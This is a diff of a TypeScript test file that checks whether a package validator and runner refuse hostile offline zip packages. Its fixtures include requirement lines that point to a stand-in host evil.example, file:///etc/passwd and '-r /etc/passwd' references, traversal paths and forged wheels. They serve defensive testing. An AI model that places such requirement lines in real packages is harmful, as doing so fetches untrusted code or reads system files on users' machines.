@@ -1,7 +1,11 @@
-// Issue 7 part 1: one table-driven corpus of hostile and broken offline packages, run against BOTH ways a package is
-// judged: `validate --zip` (zipChecks, and the built CLI for a sample) and the runner install (Runner.install). Each
-// case must be refused with the contract's code (§6: 2001 invalid_zip, 2002 manifest, 2004 wheels, 2008 integrity),
-// within a time bound, with bounded memory, and without a byte written anywhere outside the staging area.
+// Issue 7 part 1, issue 15: one table-driven corpus of hostile and broken offline packages, run against every way a
+// package is judged: `validate --zip` (zipChecks in process), `validate --zip --full` in the built CLI (a real
+// subprocess: the runner's acceptance, then its install pipeline into a throw-away directory) and the runner install
+// (Runner.install). All three share one acceptance path (src/store/install/acceptance.ts), so each case must be
+// refused by all three with the same contract code (§6: 2001 invalid_zip, 2002 manifest, 2004 wheels, 2008
+// integrity), the runner's message in the failed check, within a time bound, with bounded memory, and without a byte
+// written anywhere outside the staging area. Good packages (ours, another tool's, the original CLI's) are accepted
+// by both with the same warnings.
 // test/safe-zip.test.ts and test/store/install-rejects.test.ts hold finer-grained corpora of the zip reader and the
 // store; this one is the cross-path proof, and adds what they lack (bombs by count, ZIP64 lies, forged wheels,
 // manifest injection, requirements that point elsewhere).
@@ -17,7 +21,9 @@ import { zipChecks } from "../../src/validate/zip-checks.js";
 import { runCli } from "../helpers/cli.js";
 import { deflated, forgePackage, forgeZip, stored, type Forged } from "../helpers/forge-zip.js";
 import { testPython } from "../helpers/python.js";
-import { realWheels, SDK_VERSION } from "../helpers/store.js";
+import { fakeWheel } from "../helpers/wheels.js";
+import { originalZip } from "../helpers/original-cli.js";
+import { exampleZip, realWheels, SDK_VERSION, withoutSums } from "../helpers/store.js";
 
 // Everything this file writes, including what the code under test puts in os.tmpdir(), lands in `sandbox`: the
 // snapshot of it before and after each case is the proof that nothing escaped. (Each vitest file runs in a process of
@@ -164,8 +170,8 @@ const corpus: HostileCase[] = [
   { family: "wheels", title: "a wheel without METADATA", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.noMetadata }), code: "2004", message: /has no \*\.dist-info\/METADATA/, check: "zip_wheels" },
   { family: "wheels", title: "requirement without a wheel", bytes: () => pkg({ "requirements.txt": SDK_PIN + "numpy==2.2.6\n" }), code: "2004", message: /no wheel for numpy==2\.2\.6/ },
   // requirements that point elsewhere
-  { family: "requirements", title: "requirement with an https URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ https://evil.example/evil-1.0-py3-none-any.whl\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned", checkMessage: /not pinned to one version: evil @/ },
-  { family: "requirements", title: "requirement with a file:// URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ file:///etc/passwd\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned", checkMessage: /not pinned to one version: evil @/ },
+  { family: "requirements", title: "requirement with an https URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ https://evil.example/evil-1.0-py3-none-any.whl\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned" },
+  { family: "requirements", title: "requirement with a file:// URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ file:///etc/passwd\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned" },
   { family: "requirements", title: "editable -e git+https", bytes: () => pkg({ "requirements.txt": SDK_PIN + "-e git+https://evil.example/x.git#egg=x\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-e git\+https/, check: "zip_requirements", checkMessage: /line 2 "-e git\+https/ },
   { family: "requirements", title: "nested -r file", bytes: () => pkg({ "requirements.txt": SDK_PIN + "-r /etc/passwd\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-r/, check: "zip_requirements", checkMessage: /line 2 "-r \/etc\/passwd"/ },
   { family: "requirements", title: "local path requirement", bytes: () => pkg({ "requirements.txt": SDK_PIN + "../../outside/pkg\n" }), code: "2004", message: /is a path or URL/, check: "zip_requirements", checkMessage: /line 2 "\.\.\/\.\.\/outside\/pkg"/ },
@@ -265,21 +271,22 @@ describe("hostile packages: validate --zip and the runner install both refuse th
   it("the unmodified base package passes every static validate check (so each refusal is the case's doing)", async () => {
     const file = path.join(inbox, "base-offline.zip");
     writeFileSync(file, pkg());
-    const checks = await zipChecks({ zipPath: file, full: false, python: testPython() });
+    const { checks } = await zipChecks({ zipPath: file, full: false, python: testPython() });
     expect(checks.filter((c) => c.result === "FAIL")).toEqual([]);
   });
 
-  it.each(corpus)("[$family] $title → $code", async (c) => {
+  it.each(corpus)("[$family] $title → $code (validate, validate --full in the built CLI, the runner)", async (c) => {
     const file = zipFor(c);
     const before = snapshot();
 
     const validated = await bounded(() => zipChecks({ zipPath: file, full: false, python: testPython() }));
     expect(validated.error, String(validated.error)).toBeUndefined();
     const check = c.check ?? CHECK_OF[c.code]!;
-    const failed = validated.value!.filter((x) => x.result === "FAIL");
+    const failed = validated.value!.checks.filter((x) => x.result === "FAIL");
     const named = failed.find((x) => x.name === check);
     expect(named, `validate must fail ${check}; it failed ${JSON.stringify(failed)}`).toBeDefined();
-    expect(named!.message).toMatch(c.checkMessage ?? c.message);
+    expect(named).toMatchObject({ message: expect.stringMatching(c.checkMessage ?? c.message), error_code: c.code });
+    expect(validated.value!.errorCode).toBe(c.code);
     expect(snapshot()).toEqual(before);
 
     const installed = await bounded(() => runner.install(file));
@@ -290,6 +297,17 @@ describe("hostile packages: validate --zip and the runner install both refuse th
     expect(snapshot()).toEqual(before); // nothing in deployed/, zips/, logs/, tmp, or beside the sandbox's files
     expect(runner.repository.listPackages()).toEqual([]);
 
+    // The built CLI with --full (the runner's acceptance against this interpreter, then its install pipeline into a
+    // throw-away directory): the same verdict and code as the runner, and its throw-away directory is gone.
+    const cli = await runCli(["validate", "--zip", file, "--full", "--python", testPython(), "--json"], { timeoutMs: 60_000, env: { TMPDIR: tmp } });
+    expect(cli.code, `${c.title}: ${cli.stderr}`).toBe(1);
+    const report = cli.json as { summary: { status: string }; error_code?: string; checks: { name: string; result: string; message: string; error_code?: string }[] };
+    expect(report.summary.status).toBe("FAIL");
+    expect(report.error_code).toBe(err.code);
+    expect(report.checks.find((x) => x.name === check)).toMatchObject({ result: "FAIL", error_code: err.code, message: expect.stringContaining(err.message) });
+    expect(report.checks.map((x) => x.name)).not.toContain("zip_install");
+    expect(snapshot()).toEqual(before);
+
     for (const r of [validated, installed]) {
       expect(r.ms).toBeLessThan(CASE_TIME_LIMIT_MS);
       expect(r.rssGrowth).toBeLessThan(CASE_RSS_LIMIT);
@@ -299,22 +317,7 @@ describe("hostile packages: validate --zip and the runner install both refuse th
       message: err.message.slice(0, 160), validate_ms: Math.round(validated.ms), install_ms: Math.round(installed.ms),
       rss_growth_mib: Math.round(Math.max(validated.rssGrowth, installed.rssGrowth) / 1024 / 1024),
     });
-  });
-
-  it("the built CLI reports the same verdicts (exit 1, the named check FAILs) for a sample of the corpus", async () => {
-    const sample = ["parent traversal ../", "symlink to /etc/passwd", "zip bomb by count × ratio (300 entries of 1 MiB zeros, each under the per-entry threshold)",
-      "ZIP64 locator points outside the file", "oversized manifest (2 MiB of valid JSON)", "wheel named procvision_algorithm_sdk 0.1.0 whose METADATA says evil 6.6.6",
-      "editable -e git+https", "file smuggled in after packaging"];
-    for (const title of sample) {
-      const c = corpus.find((x) => x.title === title)!;
-      const run = await runCli(["validate", "--zip", zipFor(c), "--python", testPython(), "--json"], { timeoutMs: 30_000, env: { TMPDIR: tmp } });
-      expect(run.code, `${title}: ${run.stderr}`).toBe(1);
-      const report = run.json as { summary: { status: string }; checks: { name: string; result: string; message: string }[] };
-      expect(report.summary.status).toBe("FAIL");
-      const check = report.checks.find((x) => x.name === (c.check ?? CHECK_OF[c.code]));
-      expect(check, title).toMatchObject({ result: "FAIL", message: expect.stringMatching(c.checkMessage ?? c.message) });
-    }
-  }, 120_000);
+  }, 90_000);
 });
 
 describe("control", () => {
@@ -325,4 +328,53 @@ describe("control", () => {
     const result = await runner.install(file);
     expect(result).toMatchObject({ name: "hostile", version: "1.0", state: "installed" });
   }, 180_000);
+});
+
+describe("good packages: validate --zip --full and the runner accept them, with the same warnings", () => {
+  const good: [title: string, make: () => Promise<string>, warnings: RegExp[]][] = [
+    ["the example package as procvision-cli package builds it", () => exampleZip(inbox, { version: "2.0" }), []],
+    ["the example without SHA256SUMS and with a stale env file (another tool's zip)", async () =>
+      withoutSums(await exampleZip(inbox, { version: "2.1", fileName: "stale.zip", envFile: { python_version: "3.13", abi: "cp313", wheels_platform: ["win_amd64"] } }),
+        path.join(inbox, "algorithm-example-v2.1-offline.zip")),
+    [/no SHA256SUMS/, /\.procvision_env\.json says python_version 3\.13.*judged by the wheels' tags/]],
+    ["the example whose requirements do not name the SDK", () => exampleZip(inbox, { version: "2.2", requirements: "numpy==2.2.6\n" }),
+      [/does not name procvision_algorithm_sdk: its wheel in the package .* is installed too/]],
+    ["a zip of the original procvision-cli 0.3.2 (G3, the original SDK inside)", () => originalZip("0.3.2", inbox, { name: "orig-g3" }),
+      [/no SHA256SUMS/, /ships procvision_algorithm_sdk-0\.3\.2-py3-none-any\.whl.*replaced by the runner's SDK/]],
+  ];
+
+  it.each(good)("%s", async (_title, make, expected) => {
+    const file = await make();
+    const cli = await runCli(["validate", "--zip", file, "--full", "--json"], { timeoutMs: 240_000, env: { TMPDIR: tmp } });
+    const report = cli.json as { summary: { status: string }; error_code?: string; warnings?: string[]; checks: { name: string; result: string; message: string }[] };
+    expect(report.checks.filter((x) => x.result === "FAIL"), cli.stdout + cli.stderr).toEqual([]);
+    expect(report.checks.slice(-2).map((x) => [x.name, x.result])).toEqual([["zip_install", "PASS"], ["zip_smoke", "PASS"]]);
+    expect(cli.code).toBe(0);
+    expect(report.error_code).toBeUndefined();
+    expect(readdirSync(tmp).filter((f) => f.startsWith("procvision-validate-"))).toEqual([]); // the throw-away install is gone
+
+    const result = await runner.install(file);
+    expect(result.state).toBe("installed");
+    expect([...(report.warnings ?? [])].sort()).toEqual([...result.warnings].sort());
+    expect(result.warnings).toHaveLength(expected.length);
+    for (const w of expected) expect(result.warnings.join("\n")).toMatch(w);
+  }, 300_000);
+
+  it("a package refused by the install step itself (a dependency without a wheel): zip_install fails with the runner's code", async () => {
+    const wheels = path.join(tmp, "dep-wheels");
+    mkdirSync(wheels, { recursive: true });
+    const lib = await fakeWheel(wheels, { name: "vision-lib", version: "1.0", tag: "py3-none-any", requires: ["missing-dep>=2"] });
+    const file = await exampleZip(inbox, { version: "2.3", wheels: [...Object.values(realWheels()), lib], requirements: `numpy==2.2.6\n${SDK_PIN}vision-lib==1.0\n` });
+    rmSync(wheels, { recursive: true });
+    const cli = await runCli(["validate", "--zip", file, "--full", "--json"], { timeoutMs: 240_000, env: { TMPDIR: tmp } });
+    const report = cli.json as { error_code?: string; checks: { name: string; result: string; message: string; error_code?: string }[] };
+    expect(cli.code).toBe(1);
+    expect(report.checks.filter((x) => x.result === "FAIL").map((x) => x.name)).toEqual(["zip_install"]);
+    const err = await runner.install(file).then(() => undefined, (e: unknown) => e as ProcVisionError);
+    expect(err).toBeInstanceOf(ProcVisionError);
+    expect(err!.code).toBe("2004");
+    expect(report.error_code).toBe(err!.code);
+    expect(report.checks.at(-1)).toMatchObject({ error_code: err!.code, message: expect.stringContaining(err!.message) });
+    expect(readdirSync(tmp).filter((f) => f.startsWith("procvision-validate-"))).toEqual([]); // removed after a failure too
+  }, 300_000);
 });
